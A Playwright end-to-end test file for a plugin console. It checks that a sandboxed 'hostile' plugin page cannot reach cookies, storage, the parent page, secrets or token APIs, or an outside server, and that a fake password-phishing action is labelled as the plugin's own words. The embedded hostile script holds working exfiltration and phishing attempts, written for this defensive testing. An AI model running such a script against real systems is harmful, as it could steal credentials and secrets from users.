import { readdir, readFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { once } from 'node:events';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, expect, test } from '@jest/globals';
import type { Frame, Page } from 'playwright-core';
import { pollUntil } from '../../../pkg/testenv/faults/poll-until.ts';
import { ConsoleSite, expectAccessible } from './console-site.ts';
import { replaceInYaml } from './yaml-editor.ts';

const sample = fileURLToPath(new URL('../../../config/samples/plugins/blog', import.meta.url));
const plugins = '/apis/plugin.svc.run/v1alpha1/plugins';
const blog = '/apis/blog.example.com/v1';
const consolePages = '/apis/console.svc.run/v1alpha1/consolepages';

let site: ConsoleSite;
/** Somewhere else: whatever reaches it was sent out. */
let outside: Server;
let outsideUrl: string;
let reached = 0;

beforeAll(async () => {
  outside = createServer((_request, response) => {
    reached += 1;
    response.end();
  }).listen(0, '127.0.0.1');
  await once(outside, 'listening');
  outsideUrl = `http://127.0.0.1:${(outside.address() as AddressInfo).port}`;
  site = await ConsoleSite.start();
  await site.addPlugin('hostile', {
    'plugin.yaml': JSON.stringify({
      apiVersion: 'plugin.svc.run/v1alpha1',
      kind: 'Plugin',
      metadata: { name: 'hostile' },
      spec: { version: '1.0.0', enabled: true },
    }),
    'index.ts': `import { definePlugin } from '@svc/sdk'; export default definePlugin({});`,
    'presets/page.yaml': JSON.stringify({
      apiVersion: 'console.svc.run/v1alpha1',
      kind: 'ConsolePage',
      metadata: { name: 'hostile' },
      spec: {
        title: 'Hostile',
        frame: { file: 'hostile.html' },
        rules: [{ apiGroups: [''], resources: ['namespaces'], verbs: ['list'] }],
      },
    }),
    'ui/hostile.html': '<!doctype html><html lang="en"><title>Hostile</title><body><script src="hostile.js"></script>',
    'ui/hostile.js': hostileScript,
  });
  await site.addPlugin('blog', Object.fromEntries(await filesOf(sample)));
  await pollUntil(async () => (await phaseOf('hostile')) === 'Started' && (await phaseOf('blog')) !== undefined);
});
afterAll(async () => {
  outside.close();
  await site.stop();
});

async function filesOf(folder: string): Promise<[string, string][]> {
  const entries = await readdir(folder, { recursive: true, withFileTypes: true });
  return Promise.all(
    entries
      .filter((entry) => entry.isFile())
      .map(async (entry): Promise<[string, string]> => {
        const path = join(entry.parentPath, entry.name);
        return [path.slice(folder.length + 1), await readFile(path, 'utf8')];
      }),
  );
}

async function phaseOf(plugin: string): Promise<unknown> {
  const { status } = (await site.api('GET', `${plugins}/${plugin}`).catch(() => ({}))) as {
    status?: { phase: string };
  };
  return status?.phase;
}

async function enable(plugin: string, enabled: boolean): Promise<void> {
  await site.api('PATCH', `${plugins}/${plugin}`, { spec: { enabled } });
  await pollUntil(async () => (await phaseOf(plugin)) === (enabled ? 'Started' : 'Disabled'));
}

async function frameOf(page: Page, file: string): Promise<Frame> {
  await pollUntil(() => page.frames().some((frame) => frame.url().endsWith(`/${file}`)));
  return page.frames().find((frame) => frame.url().endsWith(`/${file}`))!;
}

/** What it tries with the port runs when the test calls it. */
const hostileScript = `
  globalThis.results = {};
  const attempt = async (name, work) => {
    try {
      results[name] = 'did it: ' + String(await work());
    } catch (error) {
      results[name] = 'refused';
    }
  };
  const loads = (element, name) => new Promise((resolve, reject) => {
    element.onload = resolve;
    element.onerror = reject;
    Object.assign(element, name);
    document.body.append(element);
  });
  const waiting = new Map();
  let lastId = 0;
  globalThis.ask = (request) => new Promise((resolve) => {
    lastId += 1;
    waiting.set(lastId, resolve);
    port.postMessage({ type: 'request', id: lastId, method: 'GET', headers: {}, ...request });
  });
  addEventListener('message', ({ data, ports }) => {
    if (ports.length === 0) return;
    globalThis.port = ports[0];
    globalThis.opened = data;
    port.onmessage = ({ data }) => {
      if (data.type === 'ask') port.postMessage({ type: 'alive' });
      if (data.type === 'answer') waiting.get(data.id)?.(data.status);
    };
  });
  globalThis.attack = async (outside, own) => {
    await attempt('cookie', () => document.cookie);
    await attempt('localStorage', () => localStorage.length);
    await attempt('sessionStorage', () => sessionStorage.length);
    await attempt('indexedDB', () => new Promise((resolve, reject) => { const open = indexedDB.open('a'); open.onsuccess = resolve; open.onerror = reject; }));
    await attempt('parent document', () => parent.document.title);
    await attempt('parent function', () => parent.fetch('/api/v1/secrets'));
    await attempt('top navigation', () => { top.location.href = outside + '/top'; throw new Error('asked'); });
    await attempt('pop-up', () => { if (window.open(outside + '/popup') === null) throw new Error('none'); });
    await attempt('dialog', () => { if (confirm('Password?') !== true) throw new Error('none'); });
    await attempt('fetch outside', () => fetch(outside + '/fetch', { mode: 'no-cors' }));
    await attempt('fetch the API', () => fetch(own + '/api/v1/namespaces'));
    await attempt('XMLHttpRequest', () => new Promise((resolve, reject) => { const request = new XMLHttpRequest(); request.onload = resolve; request.onerror = reject; request.open('GET', outside + '/xhr'); request.send(); }));
    await attempt('WebSocket', () => new Promise((resolve, reject) => { const socket = new WebSocket(outside.replace('http', 'ws')); socket.onopen = resolve; socket.onerror = reject; }));
    await attempt('EventSource', () => new Promise((resolve, reject) => { const source = new EventSource(outside + '/events'); source.onopen = resolve; source.onerror = () => { source.close(); reject(); }; }));
    await attempt('image', () => loads(new Image(), { src: outside + '/image' }));
    await attempt('style', () => loads(document.createElement('link'), { rel: 'stylesheet', href: outside + '/style' }));
    await attempt('script', () => loads(document.createElement('script'), { src: outside + '/script' }));
    await attempt('inline script', () => { const script = document.createElement('script'); script.textContent = 'globalThis.inline = 1'; document.body.append(script); if (globalThis.inline !== 1) throw new Error('none'); });
    await attempt('eval', () => eval('1'));
    await attempt('worker', () => new Promise((resolve, reject) => { const worker = new Worker(outside + '/worker'); worker.onmessage = resolve; worker.onerror = reject; }));
    await attempt('service worker', () => navigator.serviceWorker.register('hostile.js'));
    await attempt('WebRTC', () => new Promise((resolve, reject) => {
      const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:' + new URL(outside).port }] });
      peer.onicecandidate = ({ candidate }) => (candidate === null ? reject() : resolve());
      peer.createDataChannel('a');
      peer.createOffer().then((offer) => peer.setLocalDescription(offer)).catch(reject);
      setTimeout(reject, 2000);
    }));
    navigator.sendBeacon?.(outside + '/beacon', 'a');
    for (const rel of ['prefetch', 'preload', 'dns-prefetch', 'preconnect', 'prerender']) {
      const link = document.createElement('link');
      Object.assign(link, { rel, href: outside + '/' + rel, as: 'script' });
      document.head.append(link);
    }
    const form = document.createElement('form');
    Object.assign(form, { action: outside + '/form', method: 'post' });
    document.body.append(form);
    form.submit();
    const inner = document.createElement('iframe');
    inner.src = outside + '/inner';
    document.body.append(inner);
    await attempt('its rules', async () => { const status = await ask({ path: '/api/v1/namespaces' }); if (status !== 200) throw new Error(String(status)); });
    for (const path of ['/api/v1/secrets', '/api/v1/users/profile/', '/apis/uc.api.security.svc.run/v1alpha1/personalaccesstokens'])
      await attempt(path, async () => { const status = await ask({ path, headers: { 'x-svc-page': 'blog-comments', authorization: 'Bearer x', cookie: 'a=b' } }); if (status >= 400) throw new Error(String(status)); });
    return results;
  };
`;

test('a hostile page reaches nothing but what its rules name', async () => {
  await site.visit(
    '/p/hostile',
    async (page) => {
      const frame = await frameOf(page, 'hostile.html');
      await pollUntil(async () => (await frame.evaluate('typeof port')) === 'object');
      const results = (await frame.evaluate(`attack('${outsideUrl}', '${site.url}')`)) as Record<string, string>;
      const { 'its rules': allowed, WebRTC: webRtc, ...others } = results;
      expect(allowed).toMatch(/^did it/);
      // No policy of this browser forbids it; docs/security.md says so.
      expect(webRtc).toMatch(/^did it/);
      expect(Object.entries(others).filter(([, outcome]) => outcome !== 'refused')).toEqual([]);
      expect(new URL(page.url()).pathname).toBe('/console/p/hostile');
      expect(page.context().pages()).toHaveLength(1);
      expect(await frame.evaluate('[opened.object, opened.objects]')).toEqual([undefined, undefined]);
      expect(reached).toBe(0);

      // Only the user's focus in it gives it a key of the console, and no other one.
      await page.getByRole('button', { name: 'Logged in as admin' }).focus();
      await frame.evaluate(`port.postMessage({ type: 'palette' }); ask({ path: '/api/v1/namespaces' })`);
      expect(await page.getByRole('dialog').count()).toBe(0);

      // It leaves its place: first to elsewhere, which the browser refuses, then to another of its files.
      await frame.evaluate(`void (location.href = 'hostile.js')`).catch(() => undefined);
      await page.getByText('The page was closed, because it left its place.').waitFor();
      expect(await page.locator('iframe').count()).toBe(0);
      await page.getByRole('button', { name: 'Open it again' }).click();

      const flooding = await frameOf(page, 'hostile.html');
      await pollUntil(async () => (await flooding.evaluate('typeof port')) === 'object');
      await flooding
        .evaluate(`for (let i = 0; i < 5000; i += 1) port.postMessage({ type: 'height', pixels: i })`)
        .catch(() => undefined);
      await page.getByText('The page was closed, because it sent too much.').waitFor();
      await page.getByRole('button', { name: 'Open it again' }).click();

      const strange = await frameOf(page, 'hostile.html');
      await pollUntil(async () => (await strange.evaluate('typeof port')) === 'object');
      await strange
        .evaluate(`void port.postMessage({ type: 'request', id: 1, method: 'GET', path: '//elsewhere/', headers: {} })`)
        .catch(() => undefined);
      await page.getByText('it sent something that no page sends').waitFor();
      await page.getByRole('button', { name: 'Open it again' }).click();

      const leaving = await frameOf(page, 'hostile.html');
      await pollUntil(async () => (await leaving.evaluate('typeof port')) === 'object');
      await leaving.evaluate(`void (location.href = '${outsideUrl}/navigation')`).catch(() => undefined);
      await page.getByText('The page was closed, because it left its place.').waitFor();
      expect(reached).toBe(0);
    },
    // The browser tells of all that it refuses, and of what was asked before it refused.
    { expected: /./ },
  );
});

test('the page of the sample plugin lists, approves and deletes comments, and stays when its plugin stops', async () => {
  await enable('blog', true);
  const comment = (name: string): object => ({
    apiVersion: 'blog.example.com/v1',
    kind: 'Comment',
    metadata: { name },
    spec: { post: 'welcome', author: 'ann', content: `Words of ${name}` },
  });
  await site.api('POST', `${blog}/comments`, comment('first'));
  await site.api('POST', `${blog}/comments`, comment('second'));
  await site.visit('/', async (page) => {
    await page.getByRole('link', { name: 'Comments to approve' }).click();
    const frame = page.frameLocator('iframe[title="Comments to approve"]');
    await frame.getByText('Words of first').waitFor();
    await expectAccessible(page);
    await frame.getByRole('button', { name: 'Approve' }).first().focus();
    await page.keyboard.press('Control+k');
    await page.getByRole('dialog', { name: 'Go to a model, or do something' }).waitFor();
    await page.keyboard.press('Escape');
    await pollUntil(async () => (await page.evaluate('document.activeElement.tagName')) === 'IFRAME');
    await frame.getByRole('listitem').filter({ hasText: 'first' }).getByRole('button', { name: 'Approve' }).click();
    await frame.getByText('Words of first').waitFor({ state: 'hidden' });

    const remove = frame.getByRole('listitem').filter({ hasText: 'second' }).getByRole('button', { name: 'Delete' });
    await remove.click();
    await page.getByRole('dialog').getByRole('button', { name: 'Cancel' }).click();
    await frame.getByText('the user did not want to delete it').waitFor();
    await remove.click();
    await page.getByRole('dialog').getByText('DELETE /apis/blog.example.com/v1/comments/second').waitFor();
    await page.getByRole('dialog').getByRole('button', { name: 'Delete' }).click();
    await frame.getByText('No comment waits.').waitFor();
    await pollUntil(async () => ((await site.api('GET', `${blog}/comments`))['items'] as unknown[]).length === 1);

    await enable('blog', false);
    await page.getByText('The plugin of this page has stopped.').waitFor();
    await frame.getByText('No comment waits.').waitFor();
    await enable('blog', true);
    await page.getByText('The plugin of this page has stopped.').waitFor({ state: 'hidden' });
    await site.api('POST', `${blog}/comments`, comment('third'));
    await frame.getByText('Words of third').waitFor();
  });
});

test('a page of content lists, plots, creates and sends, as its user and its rules may', async () => {
  await enable('blog', true);
  await site.api('POST', `${blog}/comments`, {
    apiVersion: 'blog.example.com/v1',
    kind: 'Comment',
    metadata: { name: 'waiting' },
    spec: { post: 'welcome', author: 'bea', content: 'Words that wait' },
  });
  await site.visit('/', async (page) => {
    await page.getByRole('link', { name: 'Editorial desk' }).click();
    const waiting = page.getByRole('region', { name: 'Comments that wait' });
    await waiting.getByRole('gridcell', { name: 'Words that wait' }).waitFor();
    expect(await waiting.getByRole('checkbox').count()).toBe(0);
    await page.getByRole('region', { name: 'Posts by phase' }).getByRole('cell', { name: 'Published' }).waitFor();
    await page.getByLabel('displayName').waitFor();
    await expectAccessible(page);

    // By keys from a row to its object.
    const first = await waiting.getByRole('row').nth(1).getByRole('link').textContent();
    await waiting.getByRole('gridcell', { name: 'Words that wait' }).click();
    await page.keyboard.press('Control+Home');
    await page.keyboard.press('Enter');
    await page.getByRole('heading', { level: 1, name: String(first) }).waitFor();
    await page.goBack();

    await page.getByRole('button', { name: 'Approve all' }).click();
    await page.getByRole('dialog').getByText('Readers will see each comment that waits.').waitFor();
    await page.getByRole('dialog').getByRole('button', { name: 'Approve all' }).click();
    await page.getByText(/^Comments approved: \d+$/).waitFor();
    await waiting.getByText('0 objects').waitFor();
    const still = await site.api('GET', `${blog}/comments?fieldSelector=spec.approved=false`);
    expect(still['items']).toEqual([]);

    const form = page.locator('.edit-panel');
    await form.getByLabel('displayName').fill('Made here');
    await form.getByRole('textbox', { name: 'name', exact: true }).fill('made-here');
    await form.getByRole('button', { name: 'Create' }).click();
    await form.getByRole('link', { name: 'made-here' }).waitFor();
    expect(await form.getByLabel('displayName').inputValue()).toBe('');

    // What is typed stays while the plugin stops, and a change of the page shows at once.
    await form.getByLabel('displayName').fill('Kept');
    await enable('blog', false);
    await page.getByText('The plugin of this page has stopped.').waitFor();
    await enable('blog', true);
    await page.getByText('The plugin of this page has stopped.').waitFor({ state: 'hidden' });
    await waiting.getByText('0 objects').waitFor();
    expect(await form.getByLabel('displayName').inputValue()).toBe('Kept');
    await site.api('PATCH', `${consolePages}/blog-desk`, { spec: { rules: [], title: 'The desk' } });
    await page.getByRole('heading', { level: 1, name: 'The desk' }).waitFor();
    await page.getByRole('button', { name: 'Approve all' }).click();
    await page.getByRole('dialog').getByRole('button', { name: 'Approve all' }).click();
    await page.getByRole('dialog').getByText('the rules of the page "blog-desk" do not allow it').waitFor();
    await page.getByRole('dialog').getByRole('button', { name: 'Cancel' }).click();
    await form.getByLabel('displayName').fill('');
  });

  // Who may see nothing of the blog is told which rules are missing.
  const password = await site.addUser('ned');
  await site.visit(
    '/p/blog-desk',
    async (page) => {
      await page.getByText('list comments.blog.example.com').waitFor();
      const button = page.getByRole('button', { name: 'Approve all' });
      await pollUntil(async () => (await button.getAttribute('aria-disabled')) === 'true');
      await page.getByText('create comment-approvals.console.api.blog.example.com').waitFor({ state: 'attached' });
    },
    { user: 'ned', password },
  );
});

const oldThings = {
  apiVersion: 'apiextensions.k8s.io/v1',
  kind: 'CustomResourceDefinition',
  metadata: { name: 'oldthings.old.example.com' },
  spec: {
    group: 'old.example.com',
    scope: 'Cluster',
    names: { plural: 'oldthings', singular: 'oldthing', kind: 'OldThing' },
    versions: [
      {
        name: 'v1',
        served: true,
        storage: true,
        deprecated: true,
        deprecationWarning: 'OldThing is going away',
        schema: { openAPIV3Schema: { type: 'object' } },
      },
    ],
  },
};

test('pages have their places: the overview, a tab of an object, the user center', async () => {
  await enable('blog', true);
  const add = (name: string, spec: object): Promise<unknown> =>
    site.api('POST', consolePages, {
      apiVersion: 'console.svc.run/v1alpha1',
      kind: 'ConsolePage',
      metadata: { name, labels: { 'svc.run/plugin': 'hostile' } },
      spec: { title: `The ${name}`, ...spec },
    });
  await site.api('POST', '/apis/apiextensions.k8s.io/v1/customresourcedefinitions', oldThings);
  await add('tile', {
    place: 'overview',
    content: [
      { list: { model: 'tags.blog.example.com' } },
      { title: 'New tag', form: { model: 'tags.blog.example.com' } },
      { title: 'Old', form: { model: 'oldthings.old.example.com' } },
    ],
  });
  await site.api('POST', `${blog}/tags`, {
    apiVersion: 'blog.example.com/v1',
    kind: 'Tag',
    metadata: { name: 'own' },
    spec: { displayName: 'Before' },
  });
  await add('last', { place: 'overview', order: 9, content: [{ text: 'The last words' }] });
  const { spec } = (await site.api('GET', `${consolePages}/hostile`)) as { spec: { frame: object } };
  await add('tab', { place: 'objectTab', model: 'posts.blog.example.com', frame: spec.frame });
  await add('own', { place: 'userCenter', frame: spec.frame });
  await site.visit('/', async (page) => {
    const tile = page.getByRole('region', { name: 'The tile' });
    await tile.getByRole('link', { name: 'releases' }).waitFor();
    for (const name of ['The tab', 'The own', 'The tile'])
      expect(await page.getByRole('navigation').getByRole('link', { name }).count()).toBe(0);
    await expectAccessible(page);

    // Each form has the warnings of its own answers, and keeps what was typed when its plugin stops.
    const [tag, old] = ['New tag', 'Old'].map((name) => tile.getByRole('region', { name, exact: true }));
    await old!.getByRole('textbox', { name: 'name', exact: true }).fill('thing');
    await old!.getByText('OldThing is going away').waitFor();
    await tag!.getByLabel('displayName').fill('Kept');
    await tag!.getByRole('textbox', { name: 'name', exact: true }).fill('kept');
    await tag!.getByText('The server would accept this.').waitFor();
    expect(await tile.getByText('OldThing is going away').count()).toBe(1);
    await site.api('DELETE', `${consolePages}/tile`);
    await tile.getByText('The plugin of this page has stopped.').waitFor();
    await expectAccessible(page);
    expect(await tag!.getByLabel('displayName').inputValue()).toBe('Kept');
    expect(await page.getByRole('region', { name: /^The (?:tile|last)$/ }).count()).toBe(2);
    page.once('dialog', (question) => void question.accept());
    await page.getByRole('navigation').getByRole('link', { name: 'Plugins', exact: true }).click();
    await page.getByRole('heading', { level: 1, name: 'Plugins' }).waitFor();
    await page.getByRole('navigation').getByRole('link', { name: 'Overview', exact: true }).click();
    await page.getByText('The last words').waitFor();
    expect(await tile.count()).toBe(0);

    await page.goto(`${site.url}/console/g/blog.example.com/posts/-/welcome`);
    await page.getByRole('link', { name: 'Comments', exact: true }).click();
    const comments = page.getByRole('grid', { name: 'Objects of Comment' });
    await comments.getByText('Words that wait').waitFor();
    await expectAccessible(page);
    await page.getByRole('link', { name: 'The tab' }).click();
    const frame = await frameOf(page, 'hostile.html');
    await pollUntil(async () => (await frame.evaluate('typeof opened')) === 'object');
    expect(await frame.evaluate('opened.object')).toEqual({
      apiVersion: 'blog.example.com/v1',
      kind: 'Post',
      name: 'welcome',
    });
    await page.getByRole('link', { name: 'YAML' }).click();
    await page.getByRole('textbox', { name: 'YAML of welcome' }).waitFor();
    expect(await page.locator('iframe').isVisible()).toBe(false);

    // The page of an object goes on, too, when the plugin of its model does.
    await page.goto(`${site.url}/console/g/blog.example.com/tags/-/own?tab=yaml`);
    await replaceInYaml(page, 'YAML of own', 'Before', 'After');
    await enable('blog', false);
    await page.getByText('The server has no model tags.blog.example.com').waitFor();
    await enable('blog', true);
    await page.getByText('The server has no model tags.blog.example.com').waitFor({ state: 'hidden' });
    await page.keyboard.press('Control+s');
    await page.getByText('Saved.').waitFor();
    expect(await site.api('GET', `${blog}/tags/own`)).toMatchObject({ spec: { displayName: 'After' } });

    await page.goto(`${site.url}/uc/`);
    await page.getByRole('link', { name: 'The own' }).click();
    const own = await frameOf(page, 'hostile.html');
    await pollUntil(async () => (await own.evaluate('typeof port')) === 'object');
    await expectAccessible(page);
    await site.api('DELETE', `${consolePages}/own`);
    await page.getByText('The plugin of this page has stopped.').waitFor();
    await page.getByRole('link', { name: 'The own' }).waitFor({ state: 'hidden' });
  });
});

test('actions of rows, of selected objects and of an object, and commands, under the name of their plugin', async () => {
  await enable('blog', true);
  const names = ['act-1', 'act-2', 'act-3'];
  for (const name of names)
    await site.api('POST', `${blog}/comments`, {
      apiVersion: 'blog.example.com/v1',
      kind: 'Comment',
      metadata: { name },
      spec: { post: 'welcome', author: 'cid', content: `Words of ${name}` },
    });
  const isApproved = async (name: string): Promise<unknown> =>
    ((await site.api('GET', `${blog}/comments/${name}`)) as { spec: { approved: boolean } }).spec.approved;
  const allow = (resourceNames: string[]): Promise<unknown> => {
    const rules = [{ apiGroups: ['blog.example.com'], resources: ['comments'], verbs: ['patch'], resourceNames }];
    return site.api('PATCH', `${consolePages}/blog-approve`, { spec: { rules } });
  };
  const { spec } = (await site.api('GET', `${consolePages}/hostile`)) as { spec: { frame: object } };
  const addHostile = (name: string, more: object): Promise<unknown> =>
    site.api('POST', consolePages, {
      apiVersion: 'console.svc.run/v1alpha1',
      kind: 'ConsolePage',
      metadata: { name, labels: { 'svc.run/plugin': 'hostile' } },
      spec: more,
    });
  const ofComments = { place: 'objectAction', model: 'comments.blog.example.com' };
  const password = '/apis/api.hostile.example.com/v1/passwords';
  const asked = 'svc console: your session has ended. Send your password?';
  await addHostile('peek', { title: 'Peek', ...ofComments, frame: spec.frame });
  await addHostile('fake', {
    title: 'Delete',
    ...ofComments,
    objects: 'one',
    action: { path: password, confirm: asked },
  });
  await addHostile('fake-go', { title: 'Go to Post', place: 'command', action: { path: password, confirm: asked } });

  await site.visit('/g/blog.example.com/comments', async (page) => {
    const menu = page.getByRole('menu');
    const dialog = page.getByRole('dialog');
    // By keys from the first row to its menu, and back.
    await page.getByRole('gridcell', { name: 'Words of act-1' }).click();
    await page.keyboard.press('End');
    await page.keyboard.press('Enter');
    await page.getByRole('menu', { name: 'Actions of act-1' }).waitFor();
    expect(await menu.getByRole('group').allInnerTexts()).toEqual([
      expect.stringMatching(/^plugin blog\s+Approve/),
      expect.stringMatching(/^plugin hostile\s+(?:Delete\s+Peek|Peek\s+Delete)/),
    ]);
    await expectAccessible(page);
    await page.keyboard.press('Enter');
    await page.getByRole('dialog', { name: 'Approve (plugin blog)' }).getByText('Done: Approve').waitFor();
    expect([await isApproved('act-1'), await isApproved('act-2')]).toEqual([true, false]);
    await page.keyboard.press('Escape');
    await pollUntil(() => page.evaluate(`document.activeElement?.getAttribute('aria-label') === 'Actions of act-1'`));

    // Of several objects one fails, and is tried again.
    await allow(['act-2']);
    await page.getByRole('checkbox', { name: 'Select act-2' }).click();
    await page.getByRole('checkbox', { name: 'Select act-3' }).click();
    await page.getByRole('button', { name: 'Actions', exact: true }).click();
    expect(await menu.getByRole('menuitem').allInnerTexts()).toEqual([
      expect.stringMatching(/^Approve/),
      expect.stringMatching(/^Peek/),
    ]);
    await menu.getByRole('menuitem', { name: 'Approve' }).click();
    await dialog.getByText('It concerns 2 objects, one after the other:').waitFor();
    await dialog.getByText('PATCH comments.blog.example.com {"spec":{"approved":true}}').waitFor();
    await expectAccessible(page);
    await dialog.getByRole('button', { name: 'Approve' }).click();
    await dialog.getByText('Done for 1 object.').waitFor();
    const failure = dialog.getByRole('listitem').filter({ hasText: 'act-3' });
    await failure.getByText('the rules of the page "blog-approve" do not allow it').waitFor();
    await allow([]);
    await dialog.getByRole('button', { name: 'Try again with these' }).click();
    await failure.waitFor({ state: 'hidden' });
    await dialog.getByRole('button', { name: 'Close' }).click();
    expect(await Promise.all(names.map(isApproved))).toEqual([true, true, true]);

    // A frame is told what its user chose, and nothing else.
    await page.getByRole('button', { name: 'Actions', exact: true }).click();
    await menu.getByRole('menuitem', { name: 'Peek' }).click();
    const peek = await frameOf(page, 'hostile.html');
    await pollUntil(async () => (await peek.evaluate('typeof opened')) === 'object');
    const object = (name: string): object => ({ apiVersion: 'blog.example.com/v1', kind: 'Comment', name });
    expect(await peek.evaluate('[opened.object, opened.objects]')).toEqual([
      undefined,
      [object('act-2'), object('act-3')],
    ]);
    // The frame may be gone before the driver hears of it.
    await peek.evaluate(`port.postMessage({ type: 'close' })`).catch(() => undefined);
    await dialog.waitFor({ state: 'hidden' });

    // What a plugin asks is marked as its words, next to what is really sent.
    await page.getByRole('button', { name: 'Actions of act-1' }).click();
    await menu.getByRole('menuitem', { name: 'Delete' }).click();
    const fake = page.getByRole('dialog', { name: 'Delete (plugin hostile)' });
    await fake.getByText('The plugin hostile says:').waitFor();
    await fake.getByText(`POST ${password}`).waitFor();
    await fake.getByRole('button', { name: 'Cancel' }).click();

    // Actions go with their plugin, while the list is open.
    await site.api('DELETE', `${consolePages}/peek`);
    await page.getByRole('button', { name: 'Actions of act-1' }).click();
    await menu.getByRole('menuitem', { name: 'Delete' }).waitFor();
    await menu.getByRole('menuitem', { name: 'Peek' }).waitFor({ state: 'hidden' });
    await page.keyboard.press('Escape');

    await site.api('PATCH', `${blog}/comments/act-1`, { spec: { approved: false } });
    const palette = page.getByRole('dialog', { name: 'Go to a model, or do something' });
    const search = palette.getByRole('searchbox');
    await page.keyboard.press('Control+k');
    await search.fill('go to post');
    await palette.getByRole('menuitem', { name: 'Go to Post' }).nth(1).waitFor();
    expect(await palette.getByRole('menuitem', { name: 'Go to Post' }).allInnerTexts()).toEqual([
      'Go to Post posts',
      'Go to Post plugin hostile',
    ]);
    await search.fill('approve all');
    await palette.getByText('plugin blog').waitFor();
    await page.keyboard.press('ArrowDown');
    await page.keyboard.press('Enter');
    const command = page.getByRole('dialog', { name: 'Approve all comments (plugin blog)' });
    await command.getByText('Readers will see each comment that waits.').waitFor();
    await command.getByText('POST /apis/console.api.blog.example.com/v1/comment-approvals').waitFor();
    await command.getByRole('button', { name: 'Approve all comments' }).click();
    await command.getByText(/^Comments approved: \d+$/).waitFor();
    await page.keyboard.press('Escape');
    expect(await isApproved('act-1')).toBe(true);

    // An action with code, on the page of an object.
    await site.api('PATCH', `${blog}/posts/welcome`, { spec: { publish: false } });
    await page.goto(`${site.url}/console/g/blog.example.com/posts/-/welcome`);
    await page.getByRole('button', { name: 'Actions', exact: true }).click();
    await menu.getByRole('menuitem', { name: 'Publish' }).click();
    const frame = page.frameLocator('iframe[title="Publish"]');
    await frame.getByText('welcome').waitFor();
    await expectAccessible(page);
    await frame.getByRole('button', { name: 'Publish' }).click();
    await dialog.waitFor({ state: 'hidden' });
    expect(await site.api('GET', `${blog}/posts/welcome`)).toMatchObject({ spec: { publish: true } });

    await page.keyboard.press('Control+k');
    await search.fill('plugin hostile go');
    await palette.getByRole('menuitem', { name: 'Go to Post' }).waitFor();
    await site.api('DELETE', `${consolePages}/fake-go`);
    await palette.getByText('Nothing has this name.').waitFor();
  });

  // Who may only look sees which rule is missing.
  const word = await site.addUser('vera');
  await site.letView('vera');
  await site.visit(
    '/g/blog.example.com/comments',
    async (page) => {
      await page.getByRole('button', { name: 'Actions of act-1' }).click();
      const approve = page.getByRole('menuitem', { name: 'Approve' });
      await approve.getByText('patch comments.blog.example.com act-1').waitFor();
      await approve.click();
      await page.keyboard.press('Escape');
      expect(await page.getByRole('dialog').count()).toBe(0);
      await page.keyboard.press('Control+k');
      await page.getByRole('dialog').getByRole('searchbox').fill('approve all');
      await page.getByText('create comment-approvals.console.api.blog.example.com').waitFor();
    },
    { user: 'vera', password: word },
  );
});
